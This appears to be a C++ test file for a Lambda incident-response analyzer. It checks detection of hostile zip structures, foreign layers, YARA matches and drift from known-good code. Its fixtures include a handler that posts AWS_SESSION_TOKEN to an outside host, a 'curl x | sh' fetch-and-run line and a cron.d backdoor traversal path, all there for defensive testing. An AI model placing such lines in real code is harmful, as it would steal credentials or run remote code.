// Packages read in memory: hostile structures reported, contents handed over exactly, and
// the handler's location checked through analyze CASE on a case built offline.
#include <gtest/gtest.h>

#include <set>

#include <nlohmann/json.hpp>

#include "analysis/package_analysis.h"
#include "core/safe_name.h"
#include "evidence/case.h"
#include "test_support.h"

namespace lir {
namespace {

class Packages : public ::testing::Test {
 protected:
  void SetUp() override {
    ASSERT_EQ(test::RunPython("make_packages.py", {dir_.path()}).exit_code, 0);
  }
  std::string Zip(const char* name) { return test::ReadFile(dir_.File(name)); }
  std::set<std::string> Rules(const char* name) {
    auto r = InspectPackage(Zip(name), name, "arn:f", PackageLimits{});
    EXPECT_TRUE(r) << (r ? "" : r.error().message);
    std::set<std::string> rules;
    if (r) {
      for (const auto& f : r->findings) rules.insert(f.rule_id);
    }
    return rules;
  }
  test::TempDir dir_;
};

TEST_F(Packages, CleanPackageContentsArriveExactly) {
  std::map<std::string, std::string> files;
  auto r = InspectPackage(Zip("clean.zip"), "clean.zip", "arn:f", PackageLimits{},
                          [&](const PackageEntry& e, std::string_view content) { files[e.name] = std::string(content); });
  ASSERT_TRUE(r);
  EXPECT_TRUE(r->findings.empty());
  EXPECT_TRUE(r->complete);
  EXPECT_EQ(files.size(), 2u);
  EXPECT_EQ(files["app.py"], "def handler(event, context):\n    return {'ok': True}\n");
  EXPECT_EQ(files["lib/util.py"], "X = 1\n");
}

TEST_F(Packages, HostileStructuresAreFindings) {
  EXPECT_EQ(Rules("traversal.zip"), std::set<std::string>{"lambda_package_path_traversal"});
  EXPECT_EQ(Rules("symlink.zip"), std::set<std::string>{"lambda_package_symlink"});
  EXPECT_EQ(Rules("bomb.zip"), std::set<std::string>{"lambda_package_bomb"});
  auto traversal = InspectPackage(Zip("traversal.zip"), "t", "arn:f", PackageLimits{});
  EXPECT_NE(traversal->findings[0].description.find("../../etc/cron.d/backdoor, /tmp/absolute.sh"), std::string::npos);
  // The bomb is never inflated: reading stops at the limit.
  size_t visited = 0;
  auto bomb = InspectPackage(Zip("bomb.zip"), "b", "arn:f", PackageLimits{}, [&](const PackageEntry&, std::string_view c) { visited += c.size(); });
  EXPECT_FALSE(bomb->complete);
  EXPECT_LT(visited, 1000u);
}

TEST_F(Packages, NotAZipIsAClearError) {
  auto r = InspectPackage("this is not a zip", "x.zip", "arn:f", PackageLimits{});
  ASSERT_FALSE(r);
  EXPECT_EQ(r.error().code, ErrorCode::kCorruptInput);
  EXPECT_NE(r.error().message.find("x.zip: not a readable zip"), std::string::npos);
}

TEST(HandlerFiles, RuntimesNameTheirFiles) {
  EXPECT_EQ(HandlerFiles("python3.12", "app.handler"), std::vector<std::string>{"app.py"});
  EXPECT_EQ(HandlerFiles("python3.12", "vendor/otel_wrapper.handler"), std::vector<std::string>{"vendor/otel_wrapper.py"});
  EXPECT_EQ(HandlerFiles("python3.11", "pkg.mod.handler"), std::vector<std::string>{"pkg/mod.py"});
  EXPECT_EQ(HandlerFiles("nodejs20.x", "src/index.handler"), (std::vector<std::string>{"src/index.js", "src/index.mjs", "src/index.cjs"}));
  EXPECT_TRUE(HandlerFiles("java21", "com.example.Handler::handleRequest").empty());
}

// analyze CASE: a handler that moved into a foreign layer, found from the collected artifacts alone.
TEST_F(Packages, HandlerServedByALayerIsFoundInACase) {
  const std::string layer = "arn:aws:lambda:us-east-1:444455556666:layer:otel:3";
  auto evidence = EvidenceCase::Create(dir_.File("case"), "case", "tester", "test");
  ASSERT_TRUE(evidence);
  const nlohmann::json function = {{"Configuration", {{"FunctionName", "payments"},
                                                      {"FunctionArn", "arn:aws:lambda:us-east-1:111122223333:function:payments"},
                                                      {"Runtime", "python3.12"}, {"Handler", "vendor/otel_wrapper.handler"},
                                                      {"Layers", {{{"Arn", layer}}}}}}};
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/function.json", function.dump(), {"lambda", "GetFunction", "r1"}));
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/code.zip", Zip("clean.zip"), {"s3", "GetObject", "r2"}));
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/layers/" + SafeName(layer) + "/layer.zip", Zip("layer.zip"), {"s3", "GetObject", "r3"}));
  const auto report = nlohmann::json::parse(test::RunTool({"analyze", dir_.File("case"), "--format", "json"}).out);
  std::set<std::string> rules;
  for (const auto& f : report["findings"]) rules.insert(f["rule_id"].get<std::string>());
  EXPECT_TRUE(rules.count("lambda_package_handler_in_layer")) << report.dump(2).substr(0, 1500);
  EXPECT_TRUE(rules.count("lambda_config_layer_foreign"));
}

}  // namespace
}  // namespace lir

namespace lir {
namespace {

TEST(PackageYara, MatchesBecomeFindingsInACase) {
  test::TempDir dir;
  ASSERT_EQ(test::RunCommand({"python3", "-c",
                              "import zipfile,sys\n"
                              "z=zipfile.ZipFile(sys.argv[1],'w')\n"
                              "z.writestr('app.py',\"import os,requests\\ndef handler(e,c):\\n    requests.post('https://x.example.net',"
                              "data=os.environ['AWS_SESSION_TOKEN'])\\n\")\n"
                              "z.close()",
                              dir.File("evil.zip")}).exit_code, 0);
  auto evidence = EvidenceCase::Create(dir.File("case"), "case", "tester", "test");
  ASSERT_TRUE(evidence);
  const nlohmann::json function = {{"Configuration", {{"FunctionName", "payments"}, {"FunctionArn", "arn:aws:lambda:us-east-1:1:function:payments"},
                                                      {"Runtime", "python3.12"}, {"Handler", "app.handler"}}}};
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/function.json", function.dump(), {}));
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/code.zip", test::ReadFile(dir.File("evil.zip")), {}));
  const auto report = nlohmann::json::parse(test::RunTool({"analyze", dir.File("case"), "--format", "json"}).out);
  bool found = false;
  for (const auto& f : report["findings"]) {
    if (f["rule_id"] == "lambda_package_yara_match" && f["title"] == "YARA lambda_ir_credential_exfiltration matched 1 file(s)") {
      found = true;
      EXPECT_EQ(f["severity"], "critical");
      EXPECT_NE(f["description"].get<std::string>().find("Files: app.py"), std::string::npos);
    }
  }
  EXPECT_TRUE(found) << report["findings"].dump(2).substr(0, 2000);
}

}  // namespace
}  // namespace lir

namespace lir {
namespace {

// Known-good code from a directory, a zip and git: the handler's change is critical, the
// rest listed, with unified diffs.
TEST(KnownGood, DirectoryZipAndGitAgreeOnTheDifferences) {
  test::TempDir dir;
  test::WriteFile(dir.File("good/app.py"), "def handler(event, context):\n    return {'ok': True}\n");
  test::WriteFile(dir.File("good/lib/util.py"), "X = 1\n");
  ASSERT_EQ(test::RunCommand({"python3", "-c",
                              "import zipfile,sys\n"
                              "z=zipfile.ZipFile(sys.argv[1],'w')\n"
                              "z.writestr('app.py',\"import os\\ndef handler(event, context):\\n    os.system('curl x | sh')\\n    return {'ok': True}\\n\")\n"
                              "z.writestr('lib/util.py','X = 1\\n')\n"
                              "z.writestr('lib/backdoor.py','import socket\\n')\n"
                              "z.close()",
                              dir.File("collected.zip")}).exit_code, 0);
  ASSERT_EQ(test::RunCommand({"sh", "-c", "cd " + dir.File("good") + " && git init -q && git add -A && "
                                          "git -c user.email=t@example.com -c user.name=t commit -qm good"}).exit_code, 0);
  ASSERT_EQ(test::RunCommand({"sh", "-c", "cd " + dir.File("good") + " && git archive --format=zip HEAD > " + dir.File("good.zip")}).exit_code, 0);
  auto evidence = EvidenceCase::Create(dir.File("case"), "case", "tester", "test");
  ASSERT_TRUE(evidence);
  const nlohmann::json function = {{"Configuration", {{"FunctionName", "payments"}, {"FunctionArn", "arn:aws:lambda:us-east-1:1:function:payments"},
                                                      {"Runtime", "python3.12"}, {"Handler", "app.handler"}}}};
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/function.json", function.dump(), {}));
  ASSERT_TRUE((*evidence)->AddArtifact("artifacts/lambda/payments/code.zip", test::ReadFile(dir.File("collected.zip")), {}));
  for (const std::string& spec : {dir.File("good"), dir.File("good.zip"), "git:" + dir.File("good") + "@HEAD"}) {
    SCOPED_TRACE(spec);
    const auto r = test::RunTool({"analyze", dir.File("case"), "--known-good", spec, "--format", "json"});
    ASSERT_EQ(r.exit_code, 0) << r.err;
    const auto report = nlohmann::json::parse(r.out);
    std::map<std::string, nlohmann::json> by_rule;
    for (const auto& f : report["findings"]) by_rule[f["rule_id"].get<std::string>()] = f;
    ASSERT_TRUE(by_rule.count("lambda_package_handler_changed"));
    EXPECT_EQ(by_rule["lambda_package_handler_changed"]["severity"], "critical");
    EXPECT_EQ(by_rule["lambda_package_handler_changed"]["title"], "Handler file app.py modified against known-good code");
    EXPECT_NE(by_rule["lambda_package_handler_changed"]["description"].get<std::string>().find("+    os.system('curl x | sh')"),
              std::string::npos);
    ASSERT_TRUE(by_rule.count("lambda_package_differs_from_known_good"));
    EXPECT_EQ(by_rule["lambda_package_differs_from_known_good"]["title"], "1 file(s) differ from known-good code");
    EXPECT_NE(by_rule["lambda_package_differs_from_known_good"]["description"].get<std::string>().find("added lib/backdoor.py"),
              std::string::npos);
  }
  const auto bad = test::RunTool({"analyze", dir.File("case"), "--known-good", dir.File("nowhere")});
  EXPECT_EQ(bad.exit_code, 2);
  EXPECT_NE(bad.err.find("no such directory, zip or git:REPO@REF"), std::string::npos);
}

}  // namespace
}  // namespace lir
